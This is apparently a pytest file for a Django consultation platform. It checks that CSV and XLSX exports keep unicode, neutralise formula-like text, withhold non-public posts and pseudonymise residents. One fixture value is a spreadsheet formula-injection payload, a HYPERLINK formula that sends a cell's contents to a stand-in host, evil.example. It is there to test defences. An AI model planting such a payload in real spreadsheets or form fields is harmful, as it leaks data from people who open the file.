"""Exports checked row by row: every dataset against the factories' data, in CSV and XLSX, with
unicode kept, formula-like text neutralised, posts the public cannot see withheld with their
true state, and people only under a pseudonym."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass
from datetime import timedelta
from typing import Any

import pytest
from django.test import Client
from django.utils import timezone
from django_tenants.utils import tenant_context
from openpyxl import load_workbook  # type: ignore[import-untyped]

from accounts.models import DemographicAnswer, DemographicQuestion, User
from dialogues.models import Comment, Dialogue, Gathering, Idea, Rating, StatusChange, Tag
from insights.exports import pseudonym_of
from insights.models import Theme, ThemeMember
from moderation import services as moderation
from moderation.models import Visibility
from moderation.services import REDACTED
from tenants.models import Tenant
from tests.factories import CommentFactory, DialogueFactory, IdeaFactory, UserFactory

pytestmark = pytest.mark.django_db

UNICODE_TITLE = "Más luz 🌟 ar ŵyl y dref, مرحبا بالجميع"
FORMULAS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "plus": "+1 for later buses",
    "minus": "-2 degrees at the bus stop",
    "at": "@SUM(A1:A9)",
    "tab": "\tTabbed start",
    "cr": "\rReturn start",
}
HIDDEN_TEXT = "Secret text a moderator hid"
HELD_TEXT = "Held text awaiting review"
REJECTED_TEXT = "Rejected text nobody saw"
WITHDRAWN_TEXT = "Withdrawn text its author took back"
COMMENT_ON_HIDDEN = "Published comment under a hidden idea"


@dataclass
class Conversation:
    dialogue: Dialogue
    residents: dict[str, User]
    ideas: dict[str, Idea]
    comments: dict[str, Comment]
    analyst: User


@pytest.fixture
def conversation(tenant_a: Tenant) -> Conversation:
    """One dialogue with a post in every state, formula-like and unicode text, ratings, tags,
    a theme, responses, and residents who answered a sign-up question."""
    with tenant_context(tenant_a):
        now = timezone.now()
        dialogue = DialogueFactory.create(slug="export-parks", title="Parks")
        residents = {
            name: UserFactory.create(username=name, age_band=band)
            for name, band in (("ExpAnwen", "18_24"), ("ExpBilal", "16_17"), ("ExpCara", ""))
        }
        staff = UserFactory.create(username="ExpOfficer", role=User.Role.ADMIN)
        moderator = UserFactory.create(username="ExpModerator", role=User.Role.MODERATOR)
        analyst = UserFactory.create(username="ExpAnalyst", role=User.Role.ANALYST)
        lighting = Tag.objects.create(name="Lighting", slug="exp-lighting")
        buses = Tag.objects.create(name="Buses", slug="exp-buses")
        anwen, bilal, cara = residents.values()

        published = IdeaFactory.create(
            dialogue=dialogue,
            author=anwen,
            title=UNICODE_TITLE,
            body=FORMULAS["hyperlink"],
            rating_count=2,
            rating_total=9,
            comment_count=2,
        )
        published.tags.set([lighting, buses])
        formula = IdeaFactory.create(
            dialogue=dialogue, author=bilal, title=FORMULAS["plus"], body=FORMULAS["minus"]
        )
        bell = IdeaFactory.create(
            dialogue=dialogue, author=cara, title="Bell\x07 inside", body="Line one\nline two"
        )
        hidden = IdeaFactory.create(
            dialogue=dialogue, author=bilal, title="Hide me", body=HIDDEN_TEXT
        )
        hidden.tags.set([lighting])
        moderation.hide(item=hidden, by=moderator, reason="Off topic")
        held = IdeaFactory.create(
            dialogue=dialogue, author=cara, body=HELD_TEXT, visibility=Visibility.HELD
        )
        rejected = IdeaFactory.create(
            dialogue=dialogue, author=cara, body=REJECTED_TEXT, visibility=Visibility.REJECTED
        )
        withdrawn = IdeaFactory.create(
            dialogue=dialogue, author=anwen, body=WITHDRAWN_TEXT, withdrawn_at=now
        )
        Idea.objects.filter(pk=published.pk).update(created_at=now - timedelta(hours=48))

        top = CommentFactory.create(idea=published, author=bilal, body=FORMULAS["at"])
        reply = CommentFactory.create(idea=published, author=cara, parent=top, body=FORMULAS["tab"])
        held_comment = CommentFactory.create(
            idea=published, author=cara, body=HELD_TEXT, visibility=Visibility.HELD
        )
        under_hidden = CommentFactory.create(idea=hidden, author=anwen, body=COMMENT_ON_HIDDEN)
        official = CommentFactory.create(
            idea=published, author=staff, body=FORMULAS["cr"], is_official=True
        )
        Comment.objects.filter(pk=official.pk).update(created_at=now - timedelta(hours=24))

        Rating.objects.create(idea=published, user=bilal, stars=4)
        Rating.objects.create(idea=published, user=cara, stars=5)
        Rating.objects.create(idea=hidden, user=anwen, stars=2)
        change = StatusChange.objects.create(
            idea=published,
            status=Idea.Status.ACCEPTED,
            explanation="-2 more lights",
            changed_by=staff,
        )
        StatusChange.objects.filter(pk=change.pk).update(created_at=now - timedelta(hours=12))
        StatusChange.objects.create(
            idea=hidden, status=Idea.Status.NOT_TAKEN_FORWARD, explanation=HIDDEN_TEXT
        )

        theme = Theme.objects.create(
            dialogue=dialogue, label="=Street lighting", size=2, key_phrases=["lights", "@dark"]
        )
        ThemeMember.objects.create(theme=theme, idea=published, similarity=0.9)
        ThemeMember.objects.create(theme=theme, comment=top, similarity=0.7)

        DemographicQuestion.objects.all().delete()
        question = DemographicQuestion.objects.create(
            text="Which borough?", choices="Knowsley\n=Sefton\nWirral"
        )
        DemographicAnswer.objects.create(user=anwen, question=question, answer="Knowsley")
        DemographicAnswer.objects.create(user=bilal, question=question, answer="=Sefton")

        return Conversation(
            dialogue=dialogue,
            residents=residents,
            ideas={
                "published": published, "formula": formula, "bell": bell, "hidden": hidden,
                "held": held, "rejected": rejected, "withdrawn": withdrawn,
            },
            comments={
                "top": top, "reply": reply, "held": held_comment,
                "under_hidden": under_hidden, "official": official,
            },
            analyst=analyst,
        )  # fmt: skip


def export_bytes(client: Client, dataset: str, file_format: str, dialogue: str = "") -> bytes:
    response = client.post(
        "/manage/insights/exports/",
        {"dialogue": dialogue, "dataset": dataset, "file_format": file_format},
    )
    assert response.status_code == 200, response.content[:500]
    assert response.streaming
    streamed: Any = response
    return b"".join(streamed.streaming_content)


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV starts with a byte-order mark for Excel"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _xlsx_rows(data: bytes) -> list[list[str]]:
    """The sheet's rows as the CSV would have them (numbers as text, empty cells as "")."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    return [
        ["" if value is None else str(value) for value in row]
        for row in sheet.iter_rows(values_only=True)
    ]


Reader = Callable[[Client, str], list[dict[str, str]]]


@pytest.fixture(params=["csv", "xlsx"])
def read(
    request: pytest.FixtureRequest,
    client_as: Callable[..., Client],
    tenant_a: Tenant,
    conversation: Conversation,
) -> Callable[[str], list[dict[str, str]]]:
    """Exports a dataset of the conversation's dialogue in the format under test, as dicts
    keyed by the header row."""
    file_format: str = request.param
    client = client_as(tenant_a, conversation.analyst)

    def exported(dataset: str) -> list[dict[str, str]]:
        data = export_bytes(client, dataset, file_format, conversation.dialogue.slug)
        rows = _csv_rows(data) if file_format == "csv" else _xlsx_rows(data)
        header, *body = rows
        assert all(len(row) == len(header) for row in body)
        return [dict(zip(header, row, strict=True)) for row in body]

    return exported


def _by(rows: list[dict[str, str]], key: str, value: object) -> dict[str, str]:
    found = [row for row in rows if row[key] == str(value)]
    assert len(found) == 1, f"{key}={value}: {found}"
    return found[0]


def test_ideas_row_by_row(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation
) -> None:
    rows = read("ideas")
    ideas = conversation.ideas
    assert [row["id"] for row in rows] == [str(idea.pk) for idea in ideas.values()]
    published = _by(rows, "id", ideas["published"].pk)
    assert published["dialogue"] == "export-parks"
    assert published["title"] == UNICODE_TITLE
    assert published["body"] == "'" + FORMULAS["hyperlink"]
    assert published["tags"] == "Buses; Lighting"
    assert published["rating_count"] == "2"
    assert published["rating_average"] == "4.5"
    assert published["comment_count"] == "2"
    assert published["visibility"] == "published"
    assert published["created_at"] == timezone.localtime(
        Idea.objects.get(pk=ideas["published"].pk).created_at
    ).isoformat(timespec="seconds")
    formula = _by(rows, "id", ideas["formula"].pk)
    assert (formula["title"], formula["body"]) == ("'" + FORMULAS["plus"], "'" + FORMULAS["minus"])
    assert _by(rows, "id", ideas["bell"].pk)["body"] == "Line one\nline two"
    expected = {
        "hidden": ("hidden", "[withheld: hidden by a moderator or by reports]"),
        "held": ("held", "[withheld: held for review]"),
        "rejected": ("rejected", "[withheld: rejected by a moderator]"),
        "withdrawn": ("withdrawn", "[withheld: withdrawn by its author]"),
    }
    for name, (state, withheld) in expected.items():
        row = _by(rows, "id", ideas[name].pk)
        assert (row["visibility"], row["title"], row["body"]) == (state, withheld, withheld)
    if "gathered_at_session" in rows[0]:
        assert {row["gathered_at_session"] for row in rows} == {"no"}


def test_control_characters_are_dropped_from_xlsx_and_kept_in_csv(
    client_as: Callable[..., Client], tenant_a: Tenant, conversation: Conversation
) -> None:
    client = client_as(tenant_a, conversation.analyst)
    slug = conversation.dialogue.slug
    titles = {row[3] for row in _xlsx_rows(export_bytes(client, "ideas", "xlsx", slug))}
    assert "Bell inside" in titles
    assert "Bell\x07 inside" in {
        row[3] for row in _csv_rows(export_bytes(client, "ideas", "csv", slug))
    }


def test_comments_row_by_row(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation
) -> None:
    rows = read("comments")
    comments, ideas = conversation.comments, conversation.ideas
    top = _by(rows, "id", comments["top"].pk)
    assert top == {
        **top,
        "idea_id": str(ideas["published"].pk),
        "parent_id": "",
        "body": "'" + FORMULAS["at"],
        "official": "no",
        "visibility": "published",
    }
    reply = _by(rows, "id", comments["reply"].pk)
    assert (reply["parent_id"], reply["body"]) == (str(comments["top"].pk), "'" + FORMULAS["tab"])
    official = _by(rows, "id", comments["official"].pk)
    assert (official["official"], official["body"]) == ("yes", "'" + FORMULAS["cr"])
    held = _by(rows, "id", comments["held"].pk)
    assert (held["visibility"], held["body"]) == ("held", "[withheld: held for review]")
    # Published itself, but under a hidden idea: the public cannot see it, so neither is it
    # exported as published.
    under = _by(rows, "id", comments["under_hidden"].pk)
    assert under["visibility"] == "idea hidden"
    assert under["body"] == "[withheld: not public]"


def test_ratings_tags_and_themes_row_by_row(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation, tenant_a: Tenant
) -> None:
    ideas, people = conversation.ideas, conversation.residents
    with tenant_context(tenant_a):
        name = {user.username: pseudonym_of(user.pk) for user in people.values()}
    ratings = read("ratings")
    assert [(row["idea_id"], row["participant"], row["stars"]) for row in ratings] == [
        (str(ideas["published"].pk), name["ExpBilal"], "4"),
        (str(ideas["published"].pk), name["ExpCara"], "5"),
        (str(ideas["hidden"].pk), name["ExpAnwen"], "2"),
    ]
    tags = read("tags")
    assert [(row["tag"], row["published_ideas"], row["all_ideas"]) for row in tags] == [
        ("Buses", "1", "1"),
        ("Lighting", "1", "2"),
    ]
    themes, comments = read("themes"), conversation.comments
    assert [
        (row["label"], row["size"], row["key_phrases"], row["member_type"], row["member_id"])
        for row in themes
    ] == [
        ("'=Street lighting", "2", "lights; @dark", "idea", str(ideas["published"].pk)),
        ("'=Street lighting", "2", "lights; @dark", "comment", str(comments["top"].pk)),
    ]


def test_responses_with_the_time_taken(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation
) -> None:
    rows = read("responses")
    published, hidden = conversation.ideas["published"].pk, conversation.ideas["hidden"].pk
    assert [
        (row["kind"], row["idea_id"], row["status"], row["text"], row["visibility"]) for row in rows
    ] == [
        ("official comment", str(published), "", "'" + FORMULAS["cr"], "published"),
        ("status change", str(published), "Accepted", "'-2 more lights", "published"),
        (
            "status change",
            str(hidden),
            "Not taken forward",
            "[withheld: hidden by a moderator or by reports]",
            "idea hidden",
        ),
    ]
    assert [float(row["hours_to_respond"]) for row in rows[:2]] == [24.0, 36.0]


def test_participants_under_pseudonyms_with_their_answers(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation, tenant_a: Tenant
) -> None:
    rows = read("participants")
    people = conversation.residents
    with tenant_context(tenant_a):
        name = {user.username: pseudonym_of(user.pk) for user in people.values()}
    month = timezone.localtime(people["ExpAnwen"].date_joined).strftime("%Y-%m")
    assert rows == [
        {"participant": name["ExpAnwen"], "joined_month": month, "ideas": "2", "comments": "1",
         "ratings": "1", "age_band": "18 to 24", "Which borough?": "Knowsley"},
        {"participant": name["ExpBilal"], "joined_month": month, "ideas": "2", "comments": "1",
         "ratings": "1", "age_band": "16 or 17", "Which borough?": "'=Sefton"},
        {"participant": name["ExpCara"], "joined_month": month, "ideas": "3", "comments": "2",
         "ratings": "1", "age_band": "", "Which borough?": ""},
    ]  # fmt: skip
    assert all(
        row["participant"].startswith("P-") and len(row["participant"]) == 12 for row in rows
    )


def test_a_redacted_passage_is_exported_redacted(
    client_as: Callable[..., Client], tenant_a: Tenant, conversation: Conversation
) -> None:
    with tenant_context(tenant_a):
        moderator = UserFactory.create(role=User.Role.MODERATOR)
        comment = CommentFactory.create(
            idea=conversation.ideas["published"], body="Call Jo on her mobile, she knows"
        )
        moderation.redact(item=comment, by=moderator, text="Jo on her mobile", reason="Personal")
    data = export_bytes(
        client_as(tenant_a, conversation.analyst), "comments", "csv", conversation.dialogue.slug
    )
    header, *rows = _csv_rows(data)
    row = _by([dict(zip(header, row, strict=True)) for row in rows], "id", comment.pk)
    assert row["body"] == f"Call {REDACTED}, she knows"
    assert b"Jo on her mobile" not in data


def test_no_username_email_or_hidden_text_in_any_export(
    client_as: Callable[..., Client], tenant_a: Tenant, conversation: Conversation
) -> None:
    client = client_as(tenant_a, conversation.analyst)
    secrets = [HIDDEN_TEXT, HELD_TEXT, REJECTED_TEXT, WITHDRAWN_TEXT, COMMENT_ON_HIDDEN]
    for user in [*conversation.residents.values(), conversation.analyst]:
        secrets += [user.username, user.email, user.email.split("@")[0]]
    secrets += ["ExpOfficer", "ExpModerator"]
    for dialogue in (conversation.dialogue.slug, ""):
        for dataset in ("ideas", "comments", "ratings", "tags", "themes", "responses",
                        "participants"):  # fmt: skip
            for file_format in ("csv", "xlsx"):
                data = export_bytes(client, dataset, file_format, dialogue)
                text = (
                    data.decode("utf-8-sig")
                    if file_format == "csv"
                    else "\n".join("\t".join(row) for row in _xlsx_rows(data))
                )
                for secret in secrets:
                    assert secret.lower() not in text.lower(), (dataset, file_format, secret)


def test_pseudonyms_are_stable_on_a_site_and_differ_across_sites(
    tenant_a: Tenant, tenant_b: Tenant
) -> None:
    with tenant_context(tenant_a):
        first, again, other = pseudonym_of(7), pseudonym_of(7), pseudonym_of(8)
    with tenant_context(tenant_b):
        elsewhere = pseudonym_of(7)
    assert first == again
    assert len({first, other, elsewhere}) == 3


def test_ideas_gathered_at_a_session_say_so(
    read: Callable[[str], list[dict[str, str]]], conversation: Conversation, tenant_a: Tenant
) -> None:
    """The export says which ideas were gathered at an in-person session."""
    with tenant_context(tenant_a):
        session = Gathering.objects.create(
            dialogue=conversation.dialogue, place="Kirkby youth club", held_on=timezone.localdate()
        )
        gathered = IdeaFactory.create(
            dialogue=conversation.dialogue, author=None, gathering=session, title="From the club"
        )
    rows = read("ideas")
    assert _by(rows, "id", gathered.pk)["gathered_at_session"] == "yes"
    assert _by(rows, "id", conversation.ideas["published"].pk)["gathered_at_session"] == "no"
